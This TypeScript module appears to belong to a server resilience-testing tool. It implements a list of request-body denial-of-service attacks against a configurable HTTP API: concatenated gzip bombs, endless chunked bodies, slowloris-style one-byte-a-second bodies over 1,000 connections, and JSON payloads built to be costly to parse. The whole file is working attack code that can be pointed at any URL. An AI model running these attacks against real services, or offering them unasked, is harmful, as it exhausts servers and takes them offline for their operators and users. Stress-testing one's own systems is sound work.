import { gzipSync } from 'node:zlib';

import type { Attack } from './attack.js';
import { type Attacking, sendMany, sendRaw } from './send.js';

const paths = ['/api/jobs', '/v1/chat/completions', '/graphql'] as const;
const pathOf = (index: number) => paths[index % paths.length] ?? paths[0];

/** 615 KB of gzip that inflate to about 600 MB: the members of a gzip file may simply follow each other. */
function gzipBomb(): Buffer {
  const member = gzipSync(Buffer.alloc(1_048_576, ' '), { level: 9 });
  return Buffer.concat(Array.from({ length: Math.trunc(615_000 / member.length) }, () => member));
}

function gzipBombs(name: string, isAuthenticated: boolean): Attack {
  return {
    name,
    about: `100 bodies of 615 KB gzip, 10 at a time, ${isAuthenticated ? 'with' : 'without'} a key`,
    run: (target, bounds, outcomes) => {
      const body = gzipBomb();
      return sendMany({ target, bounds, outcomes }, { count: 100, width: 10 }, (i) => ({
        ...{ path: pathOf(i), body, isAuthenticated },
        headers: { 'content-encoding': 'gzip' },
      }));
    },
  };
}

function endlessBodies(name: string, isAuthenticated: boolean): Attack {
  return {
    name,
    about: `20 chunked bodies without an end, ${isAuthenticated ? 'with' : 'without'} a key, again and again`,
    run: async (target, bounds, outcomes) => {
      const chunk = Buffer.concat([Buffer.from('10000\r\n'), Buffer.alloc(65_536, '1'), Buffer.from('\r\n')]);
      const attacking = { target, bounds, outcomes };
      let most = 0;
      await Promise.all(
        Array.from({ length: 20 }, async (_, i) => {
          for (let round = 0; round < 10 && !bounds.signal.aborted; round++) {
            const head = headOf(attacking, { path: pathOf(i), isAuthenticated, length: 'Transfer-Encoding: chunked' });
            most = Math.max(most, await sendRaw(attacking, { head, nextBytes: () => chunk, everyMs: 0 }));
          }
        }),
      );
      outcomes.count(`at most ${Math.round(most / 1_048_576)} MB of one`);
    },
  };
}

function slowBodies(name: string, isAuthenticated: boolean): Attack {
  return {
    name,
    about: `1,000 bodies of one byte a second, ${isAuthenticated ? 'with' : 'without'} a key`,
    run: async (target, bounds, outcomes) => {
      const attacking = { target, bounds, outcomes };
      const byte = Buffer.from(' ');
      await Promise.all(
        Array.from({ length: 1_000 }, (_, i) => {
          const head = headOf(attacking, { path: pathOf(i), isAuthenticated, length: 'Content-Length: 100000' });
          return sendRaw(attacking, { head, nextBytes: () => byte, everyMs: 1_000 });
        }),
      );
    },
  };
}

function headOf(
  { target }: Attacking,
  {
    path,
    isAuthenticated,
    length,
  }: { readonly path: string; readonly isAuthenticated: boolean; readonly length: string },
): string {
  const authorization = isAuthenticated ? [`Authorization: Bearer ${target.apiKey}`] : [];
  const { host } = new URL(target.url);
  return [`POST ${path} HTTP/1.1`, `Host: ${host}`, 'Content-Type: application/json', ...authorization, length].join(
    '\r\n',
  );
}

/** Bodies that are as large as the server takes, and expensive for their size. */
function expensiveJson(name: string, about: string, make: () => string): Attack {
  return {
    name,
    about,
    run: (target, bounds, outcomes) => {
      const body = make();
      return sendMany({ target, bounds, outcomes }, { count: 200, width: 10 }, (i) => ({ path: pathOf(i), body }));
    },
  };
}

const deep = () => '['.repeat(2_000_000) + ']'.repeat(2_000_000);
const manyTokens = () => `[${Array.from({ length: 1_000_000 }, () => '{}').join()}]`;
const manyKeys = () => `{${Array.from({ length: 300_000 }, (_, i) => `"k${i}":{}`).join()}}`;

/** Attacks by request bodies. */
export const bodyAttacks: readonly Attack[] = [
  gzipBombs('gzip', true),
  gzipBombs('gzip-anonymous', false),
  endlessBodies('endless', true),
  endlessBodies('endless-anonymous', false),
  expensiveJson('deep-json', '200 bodies of 4 MB, 2,000,000 levels deep, 10 at a time', deep),
  expensiveJson('many-tokens', '200 bodies of 3 MB with 1,000,000 empty objects, 10 at a time', manyTokens),
  expensiveJson('many-keys', '200 bodies of 3.6 MB, an object of 300,000 keys, 10 at a time', manyKeys),
  slowBodies('slow', true),
  slowBodies('slow-anonymous', false),
];
